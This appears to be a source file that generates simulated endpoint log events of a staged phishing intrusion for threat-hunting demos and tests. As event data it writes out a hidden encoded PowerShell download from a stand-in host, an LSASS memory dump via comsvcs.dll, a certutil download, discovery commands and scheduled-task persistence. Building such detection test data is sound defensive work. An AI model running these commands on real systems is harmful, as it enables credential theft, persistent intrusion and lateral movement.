import { stableHash, type SampleCompany, type SampleUser } from "./company.js";
import { addMail, type DeviceBase } from "./daily-life.js";
import { programs } from "./programs.table.js";
import type { Random } from "./random.js";
import type { SampleEvents, SampleProcess } from "./sample-events.js";

const minute = 60_000;

/** Facts of the sample's attack, for demos and tests: what a hunt must find. */
export const attackFacts = Object.freeze({
  victim: "dana.reyes",
  firstDevice: "ws-001.tailspin.example",
  secondDevice: "srv-file01.tailspin.example",
  sender: "accounts@tailspin-invoices.example",
  attachment: "Invoice_4471.docm",
  controlHost: "cdn-telemetry-sync.example",
  controlAddress: "203.0.113.66",
  payload: "updater.exe",
  runValue: "TelemetrySync",
  task: "\\Microsoft\\Windows\\Maintenance\\TelemetrySync",
  stolenAccount: "adm.novak",
});

/** Plays the attack: mail, macro, encoded PowerShell, payload, discovery, credential theft, lateral movement, persistence. */
export function playAttack(events: SampleEvents, random: Random, company: SampleCompany, bases: ReadonlyMap<string, DeviceBase>, day: number): void {
  const first = bases.get(attackFacts.firstDevice);
  const second = bases.get(attackFacts.secondDevice);
  const victim = company.users.find((user) => user.account === attackFacts.victim);
  const stolen = company.users.find((user) => user.account === attackFacts.stolenAccount);
  if (!first || !second || !victim || !stolen) return;
  const start = day + 9 * 60 * minute + 12 * minute;
  addMail(events, start, {
    recipient: victim,
    from: { address: attackFacts.sender, domain: "tailspin-invoices.example", name: "Accounts Receivable" },
    subject: "Overdue invoice 4471",
    inbound: true,
    attachment: attackFacts.attachment,
  });
  const implant = deliver(events, first, victim, start + 23 * minute);
  beacon(events, random, implant, start + 30 * minute, 240);
  discover(events, implant, start + 44 * minute);
  persistOnFirst(events, implant, start + 52 * minute);
  stealCredentials(events, first, implant, start + 71 * minute);
  moveAcross(events, company, { implant, second, stolen }, start + 96 * minute);
}

function deliver(events: SampleEvents, base: DeviceBase, user: SampleUser, at: number): SampleProcess {
  const device = base.device;
  const download = `C:\\Users\\${user.account}\\Downloads\\${attackFacts.attachment}`;
  const explorer = events.start({ device, user, program: programs.explorer, parent: base.winlogon }, at - 90 * minute);
  const outlook = events.start({ device, user, program: programs.outlook, parent: explorer }, at - 60 * minute);
  events.file(outlook, at - 20_000, download, "FileCreated", { SHA256: stableHash("sha256", attackFacts.attachment), FileOriginUrl: `mailto:${attackFacts.sender}` });
  const word = events.start({ device, user, program: programs.word, parent: outlook, commandLine: `"WINWORD.EXE" /n "${download}" /o ""` }, at);
  const script = `$w=New-Object Net.WebClient;$w.DownloadFile('https://${attackFacts.controlHost}/u/4471',"$env:TEMP\\${attackFacts.payload}");Start-Process "$env:TEMP\\${attackFacts.payload}"`;
  const shell = events.start({ device, user, program: programs.powershell, parent: word, commandLine: `powershell.exe -nop -w hidden -ep bypass -enc ${Buffer.from(script, "utf16le").toString("base64")}` }, at + 9000);
  events.start({ device, user, program: programs.conhost, parent: shell }, at + 9100);
  events.library(shell, at + 9400, "C:\\Windows\\System32\\amsi.dll");
  events.device(shell, at + 9600, "PowerShellCommand", { AdditionalFields: JSON.stringify({ Command: "New-Object" }) });
  events.connect(shell, at + 11_000, { address: attackFacts.controlAddress, port: 443, url: attackFacts.controlHost });
  const payload = `C:\\Users\\${user.account}\\AppData\\Local\\Temp\\${attackFacts.payload}`;
  events.file(shell, at + 12_500, payload, "FileCreated", { FileOriginUrl: `https://${attackFacts.controlHost}/u/4471`, FileOriginIP: attackFacts.controlAddress });
  return events.start({ device, user, program: programs.updater, parent: shell, commandLine: `"${payload}"` }, at + 13_000);
}

function beacon(events: SampleEvents, random: Random, implant: SampleProcess, from: number, times: number): void {
  for (let count = 0; count < times; count++)
    events.connect(implant, from + count * 2 * minute + random.whole(-9000, 9000), { address: attackFacts.controlAddress, port: 443, url: attackFacts.controlHost });
}

function discover(events: SampleEvents, implant: SampleProcess, at: number): void {
  const { device, user } = implant;
  const shell = events.start({ device, user, program: programs.cmd, parent: implant, commandLine: "cmd.exe /c whoami /all & net user /domain & net group \"Domain Admins\" /domain & nltest /dclist:" }, at);
  events.start({ device, user, program: programs.whoami, parent: shell, commandLine: "whoami  /all" }, at + 300);
  events.start({ device, user, program: programs.net, parent: shell, commandLine: "net  user /domain" }, at + 2000);
  events.start({ device, user, program: programs.net, parent: shell, commandLine: "net  group \"Domain Admins\" /domain" }, at + 4500);
  events.start({ device, user, program: programs.nltest, parent: shell, commandLine: "nltest  /dclist:" }, at + 7000);
}

function persistOnFirst(events: SampleEvents, implant: SampleProcess, at: number): void {
  const key = `HKEY_CURRENT_USER\\${implant.user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`;
  events.registry(implant, at, key, attackFacts.runValue, `"${implant.path}" /background`);
}

function stealCredentials(events: SampleEvents, base: DeviceBase, implant: SampleProcess, at: number): void {
  const { device, user } = implant;
  const dump = `C:\\Users\\${user.account}\\AppData\\Local\\Temp\\d4471.dmp`;
  const dumper = events.start({ device, user, program: programs.rundll32, parent: implant, commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${base.lsass.id} ${dump} full` }, at);
  events.device(dumper, at + 700, "OpenProcessApiCall", {
    FileName: "lsass.exe",
    FolderPath: base.lsass.path,
    ProcessId: base.lsass.id,
    ProcessCommandLine: base.lsass.commandLine,
    ProcessCreationTime: base.lsass.created,
    AdditionalFields: JSON.stringify({ DesiredAccess: 2_097_151 }),
  });
  events.file(dumper, at + 2100, dump);
  events.file(implant, at + 4 * minute, dump, "FileDeleted");
}

interface Movement {
  readonly implant: SampleProcess;
  readonly second: DeviceBase;
  readonly stolen: SampleUser;
}

function moveAcross(events: SampleEvents, company: SampleCompany, move: Movement, at: number): void {
  const { implant, second, stolen } = move;
  for (const [index, server] of company.servers.entries()) events.connect(implant, at + index * 1500, { address: server.address, port: 445, action: index % 2 === 0 ? "ConnectionSuccess" : "ConnectionFailed" });
  const from = implant.device;
  events.logon(second.device, at + 60_000, stolen, "Network", from, "InvalidUserNameOrPassword");
  events.logon(second.device, at + 75_000, stolen, "Network", from);
  const user = company.system;
  events.file(second.svchost, at + 78_000, "C:\\Windows\\PSEXESVC.exe", "FileCreated", { RequestProtocol: "Smb", RequestSourceIP: from.address, RequestAccountName: stolen.account, RequestAccountDomain: stolen.domain, ShareName: "ADMIN$" });
  events.device(second.services, at + 80_000, "ServiceInstalled", { FileName: "PSEXESVC.exe", FolderPath: "C:\\Windows\\PSEXESVC.exe", AdditionalFields: JSON.stringify({ ServiceName: "PSEXESVC", ServiceStartType: 3, ServiceAccount: "LocalSystem" }) });
  const service = events.start({ device: second.device, user, program: programs.psexesvc, parent: second.services }, at + 81_000);
  const shell = events.start({ device: second.device, user, program: programs.cmd, parent: service, commandLine: "cmd.exe /c certutil -urlcache -f https://" + attackFacts.controlHost + "/s C:\\ProgramData\\" + attackFacts.payload }, at + 84_000);
  events.connect(shell, at + 86_000, { address: attackFacts.controlAddress, port: 443, url: attackFacts.controlHost });
  events.file(shell, at + 88_000, `C:\\ProgramData\\${attackFacts.payload}`);
  const task = events.start({ device: second.device, user, program: programs.schtasks, parent: service, commandLine: `schtasks.exe /create /tn "${attackFacts.task}" /tr C:\\ProgramData\\${attackFacts.payload} /sc onlogon /ru SYSTEM /f` }, at + 5 * minute);
  events.device(task, at + 5 * minute + 400, "ScheduledTaskCreated", { AdditionalFields: JSON.stringify({ TaskName: attackFacts.task, TaskContent: `C:\\ProgramData\\${attackFacts.payload}` }) });
  const second2 = events.start({ device: second.device, user, program: programs.updater, parent: service, folder: "C:\\ProgramData", commandLine: `C:\\ProgramData\\${attackFacts.payload}` }, at + 6 * minute);
  events.connect(second2, at + 6 * minute + 3000, { address: attackFacts.controlAddress, port: 443, url: attackFacts.controlHost });
}
